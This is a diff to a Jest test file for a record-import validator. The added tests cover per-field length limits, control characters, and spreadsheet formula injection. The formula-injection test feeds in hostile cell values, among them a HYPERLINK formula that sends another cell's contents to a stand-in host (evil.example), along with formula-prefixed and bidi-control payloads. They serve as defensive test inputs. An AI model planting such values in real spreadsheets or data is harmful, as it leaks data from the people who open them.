@@ -240,10 +240,40 @@ describe('hieOptOut', () => {
 });
 
 describe('problems', () => {
-  test('a cell over 1,000 characters is a problem of its own, not stored', () => {
-    expect(reason({ ...BASE, 'city-1': 'x'.repeat(1001) })).toBe('city-1: must be at most 1000 characters');
-    expect(reason({ ...BASE, lastName: 'Smith '.repeat(200) })).toBe('lastName: must be at most 1000 characters');
-    expect(reason({ ...BASE, 'addressLine2-1': 'x'.repeat(1001) })).toBe('addressLine2-1: must be at most 1000 characters');
+  test('a cell longer than its field allows is a problem of its own, not stored; each field has its own limit', () => {
+    expect(reason({ ...BASE, 'city-1': 'x'.repeat(101) })).toBe('city-1: must be at most 100 characters');
+    expect(reason({ ...BASE, lastName: 'Smith '.repeat(200) })).toBe('lastName: must be at most 200 characters');
+    expect(reason({ ...BASE, firstName: 'A'.repeat(201) })).toBe('firstName: must be at most 200 characters');
+    expect(parsed({ ...BASE, firstName: 'A'.repeat(200) }).firstName).toHaveLength(200);
+    expect(reason({ ...BASE, 'addressLine2-1': 'x'.repeat(201) })).toBe('addressLine2-1: must be at most 200 characters');
+    expect(reason({ ...BASE, driversLicenceNo: 'D'.repeat(51), driversLicenceState: 'NY' })).toBe('driversLicenceNo: must be at most 50 characters');
+    // Formatted cells are bounded before their format is checked.
+    expect(reason({ ...BASE, 'email-1': 'x'.repeat(1001) })).toBe('email-1: must be at most 1000 characters');
+  });
+
+  test('a control character (NUL, DEL, a line break or a tab inside the text) in a free-text cell is refused, naming the column', () => {
+    const oneLine = 'must be one line of visible text: no line breaks, tabs or other control characters';
+    expect(reason({ ...BASE, 'addressLine1-1': '1 Main\u0000 St' })).toBe(`addressLine1-1: ${oneLine}`);
+    expect(reason({ ...BASE, 'addressLine2-1': 'Apt\n4' })).toBe(`addressLine2-1: ${oneLine}`);
+    expect(reason({ ...BASE, 'city-1': 'Spring\u007ffield' })).toBe(`city-1: ${oneLine}`);
+    expect(reason({ ...BASE, externalId: 'e\u00011' })).toBe(`externalId: ${oneLine}`);
+    expect(reason({ ...BASE, driversLicenceNo: 'D1\t23', driversLicenceState: 'NY' })).toBe(`driversLicenceNo: ${oneLine}`);
+    // Around the text, whitespace is trimmed as ever.
+    expect(parsed({ ...BASE, 'city-1': '\tSpringfield\r\n' }).addresses[0]!.city).toBe('Springfield');
+    // Formatted cells refuse them by their format.
+    expect(reason({ ...BASE, dob: '1980-\u000001-02' })).toMatch(/^dob: must be a date/);
+  });
+
+  test('names: no formula start (=, +, -, @), no bidi control, no control character; whitespace between names is still a separator', () => {
+    for (const name of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd', '+cmd', '-2+3+cmd', ' =Ann', '\t@Ann']) {
+      expect(reason({ ...BASE, firstName: name })).toBe('firstName: must start with a letter, not =, +, - or @ (a spreadsheet would run the cell as a formula)');
+    }
+    for (const mark of ['\u202a', '\u202e', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c']) {
+      expect(reason({ ...BASE, lastName: `Smi${mark}th` })).toMatch(/^lastName: must not contain invisible text-direction marks/);
+    }
+    expect(reason({ ...BASE, lastName: 'Smi\u0000th' })).toMatch(/^lastName: must not contain control characters/);
+    expect(reason({ ...BASE, lastName: 'Smi\u007fth' })).toMatch(/^lastName: must not contain control characters/);
+    expect(parsed({ ...BASE, firstName: 'Anne\tMarie', lastName: "O'Brien-Smith" })).toMatchObject({ firstName: 'Anne Marie', lastName: "O'Brien-Smith" });
   });
 
   test('every problem of the row is listed, field by field, and no value is quoted', () => {
